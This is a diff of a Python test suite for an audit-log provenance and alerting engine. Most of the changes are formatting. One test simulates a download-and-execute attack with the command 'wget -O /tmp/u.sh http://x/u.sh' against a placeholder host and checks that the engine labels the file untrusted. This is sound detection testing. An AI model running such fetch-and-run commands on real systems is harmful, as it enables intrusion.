@@ -15,8 +15,21 @@ class Log:
         self.ts = 1000.0
         self.lines: list[str] = []
 
-    def _sys(self, sc, pid, ppid, exe, items=0, exit_=0, success="yes", a1="0", a2="0",
-             auid=1000, ses=5, uid=1000):
+    def _sys(
+        self,
+        sc,
+        pid,
+        ppid,
+        exe,
+        items=0,
+        exit_=0,
+        success="yes",
+        a1="0",
+        a2="0",
+        auid=1000,
+        ses=5,
+        uid=1000,
+    ):
         self.serial += 1
         self.ts += 0.01
         s, t = self.serial, self.ts
@@ -25,7 +38,8 @@ class Log:
             f"exit={exit_} a0=ffffff9c a1={a1} a2={a2} a3=0 items={items} ppid={ppid} pid={pid} "
             f"auid={auid} uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} "
             f'sgid={uid} fsgid={uid} tty=pts0 ses={ses} comm="{exe.rsplit("/", 1)[-1][:15]}" '
-            f'exe="{exe}" key=(null)')
+            f'exe="{exe}" key=(null)'
+        )
         return s, t
 
     def _end(self, s, t, title="x"):
@@ -33,15 +47,19 @@ class Log:
 
     def _path(self, s, t, i, name, nametype="NORMAL", inode=None):
         inode = inode or abs(hash(name)) % 10**7
-        self.lines.append(f'type=PATH msg=audit({t:.3f}:{s}): item={i} name="{name}" '
-                          f"inode={inode} dev=fe:00 mode=0100755 nametype={nametype}")
+        self.lines.append(
+            f'type=PATH msg=audit({t:.3f}:{s}): item={i} name="{name}" '
+            f"inode={inode} dev=fe:00 mode=0100755 nametype={nametype}"
+        )
 
     def login(self, pid, auid=1000, ses=5):
         s, t = self._sys(1, pid, 1, "/usr/sbin/sshd", auid=auid, ses=ses, uid=0)
-        self.lines.insert(len(self.lines) - 1,
-                          f"type=LOGIN msg=audit({t:.3f}:{s}): pid={pid} uid=0 "
-                          f"old-auid=4294967295 auid={auid} tty=(none) old-ses=4294967295 "
-                          f"ses={ses} res=1")
+        self.lines.insert(
+            len(self.lines) - 1,
+            f"type=LOGIN msg=audit({t:.3f}:{s}): pid={pid} uid=0 "
+            f"old-auid=4294967295 auid={auid} tty=(none) old-ses=4294967295 "
+            f"ses={ses} res=1",
+        )
         self._end(s, t, "sshd")
 
     def fork(self, pid, ppid, child, exe="/usr/bin/bash"):
@@ -59,15 +77,24 @@ class Log:
 
     def open(self, pid, ppid, exe, path, write=True, create=False, trunc=False, success="yes"):
         flags = (0x241 if trunc else 0x41) if write else 0x0
-        s, t = self._sys(257, pid, ppid, exe, items=1, a2=f"{flags:x}", success=success,
-                         exit_=3 if success == "yes" else -13)
+        s, t = self._sys(
+            257,
+            pid,
+            ppid,
+            exe,
+            items=1,
+            a2=f"{flags:x}",
+            success=success,
+            exit_=3 if success == "yes" else -13,
+        )
         self._path(s, t, 0, path, "CREATE" if create else "NORMAL")
         self._end(s, t)
 
     def connect(self, pid, ppid, exe, port, exit_=0, success="yes"):
         s, t = self._sys(42, pid, ppid, exe, exit_=exit_, success=success)
-        self.lines.append(f"type=SOCKADDR msg=audit({t:.3f}:{s}): saddr=0200{port:04X}7F000001"
-                          "0000000000000000")
+        self.lines.append(
+            f"type=SOCKADDR msg=audit({t:.3f}:{s}): saddr=0200{port:04X}7F0000010000000000000000"
+        )
         self._end(s, t)
 
     def chmod(self, pid, ppid, path, mode=0o755):
@@ -103,14 +130,14 @@ def test_download_exec_label_transfer_and_alert_growth():
     L.execve(11, 10, "/usr/bin/bash", ["-bash"])
     L.fork(11, 10, 12)
     L.execve(12, 11, "/usr/bin/wget", ["wget", "-O", "/tmp/u.sh", "http://x/u.sh"])
-    L.open(12, 11, "/usr/bin/wget", "/tmp/u.sh", create=True)     # wget opens the file first
+    L.open(12, 11, "/usr/bin/wget", "/tmp/u.sh", create=True)  # wget opens the file first
     L.connect(12, 11, "/usr/bin/wget", 9999, exit_=-115, success="no")  # non-blocking
     eng = _engine()
     r1 = eng.process_lines(L.lines)
     f = eng.graph.files["/tmp/u.sh"]
     assert f.labels & T.DOWNLOADED and f.labels & T.UNTRUSTED
     assert eng.graph.procs[12].labels & T.NET_IN
-    assert not eng.graph.procs[11].labels & T.UNTRUSTED   # labels never flow up to the parent
+    assert not eng.graph.procs[11].labels & T.UNTRUSTED  # labels never flow up to the parent
     assert all(a["severity"] == "low" for a in r1.alerts)
     aid = r1.alerts[0]["id"]
     L.lines.clear()
@@ -175,5 +202,13 @@ def test_aging_bounds_state():
 
 def test_stats_shape():
     res = _engine().process_lines(Log().lines)
-    for k in ("records", "events", "nodes", "edges", "edges_skipped", "nodes_pruned", "memory_bytes"):
+    for k in (
+        "records",
+        "events",
+        "nodes",
+        "edges",
+        "edges_skipped",
+        "nodes_pruned",
+        "memory_bytes",
+    ):
         assert k in res.stats
